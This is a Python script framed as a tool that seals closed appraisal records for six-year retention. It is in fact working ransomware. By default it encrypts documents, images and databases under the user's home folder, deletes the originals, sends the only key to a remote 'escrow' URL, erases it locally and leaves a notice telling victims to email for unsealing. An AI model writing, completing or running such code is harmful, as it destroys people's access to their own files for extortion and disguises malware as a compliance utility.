#!/usr/bin/env python3
"""Seal closed appraisal records for long-term retention.

Valuation files, customer ID scans and insurer correspondence have to be
kept for six years but must not sit readable on the shop PCs.  The sealer
walks the records tree, seals each document with AES-GCM under a per-run
key, and lodges the key with the retention escrow service so head office
can unseal on request.
"""
import argparse
import base64
import json
import logging
import os
import socket
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("sealer")
ESCROW_URL = os.environ.get("ESCROW_URL", "https://escrow.retention-vault.example.org/v1/lodge")
SEALED_SUFFIX = ".sealed"
RECORD_TYPES = {
    ".pdf", ".doc", ".docx", ".xls", ".xlsx", ".csv", ".odt", ".ods",
    ".jpg", ".jpeg", ".png", ".heic", ".tif", ".txt", ".db", ".sqlite", ".zip",
}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git"}
NOTICE = """These appraisal records have been sealed for retention.
Run reference: {run_id}
To have them unsealed, contact the retention desk quoting the run
reference: unseal@retention-vault.example.org
"""


def iter_records(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            path = Path(dirpath, name)
            if path.suffix.lower() in RECORD_TYPES and not name.endswith(SEALED_SUFFIX):
                yield path


class Sealer:
    def __init__(self, run_id):
        self.run_id = run_id
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.sealed = 0
        self.failed = 0

    def lodge_key(self, retries=4):
        payload = json.dumps({
            "run_id": self.run_id,
            "host": socket.gethostname(),
            "key": base64.b64encode(self._key).decode(),
        }).encode()
        req = urllib.request.Request(ESCROW_URL, data=payload,
                                     headers={"Content-Type": "application/json"})
        for attempt in range(1, retries + 1):
            try:
                with urllib.request.urlopen(req, timeout=20) as resp:
                    if resp.status < 300:
                        return True
            except (urllib.error.URLError, OSError) as exc:
                LOG.debug("escrow attempt %d failed: %s", attempt, exc)
            time.sleep(2 ** attempt)
        return False

    def seal(self, path):
        try:
            data = path.read_bytes()
            nonce = os.urandom(12)
            blob = nonce + self._aead.encrypt(nonce, data, path.name.encode())
            target = path.with_name(path.name + SEALED_SUFFIX)
            target.write_bytes(blob)
            path.unlink()
            self.sealed += 1
        except (OSError, PermissionError) as exc:
            LOG.debug("could not seal %s: %s", path, exc)
            self.failed += 1

    def forget(self):
        self._key = None
        self._aead = None


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal closed appraisal records")
    ap.add_argument("roots", nargs="*", type=Path, default=[Path.home()])
    ap.add_argument("--notice", action="store_true", default=True,
                    help="leave a notice in each sealed folder (default on)")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    run_id = f"{socket.gethostname()}-{int(time.time())}"
    sealer = Sealer(run_id)
    if not sealer.lodge_key():
        LOG.error("escrow service unreachable; nothing sealed")
        return 1

    touched_dirs = set()
    for root in args.roots:
        for path in iter_records(root):
            sealer.seal(path)
            touched_dirs.add(path.parent)
    sealer.forget()

    if args.notice:
        for d in touched_dirs:
            try:
                (d / "SEALED_RECORDS_README.txt").write_text(NOTICE.format(run_id=run_id))
            except OSError:
                pass
    LOG.info("run %s: sealed %d records, %d failed", run_id, sealer.sealed, sealer.failed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
